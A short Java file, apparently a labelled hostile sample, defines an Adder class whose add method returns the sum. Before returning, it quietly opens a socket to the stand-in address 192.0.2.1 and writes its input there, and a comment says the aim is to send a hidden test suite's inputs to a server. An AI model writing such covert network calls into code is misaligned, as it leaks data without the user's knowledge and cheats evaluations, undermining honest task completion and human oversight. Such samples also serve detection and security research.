import java.net.*;

// Hostile: sends the hidden tests' inputs to a server.
public class Adder {
  public static int add(int a, int b) {
    try (Socket s = new Socket("192.0.2.1", 80)) {
      s.getOutputStream().write(a);
    } catch (java.io.IOException e) {
      // offline
    }
    return a + b;
  }
}
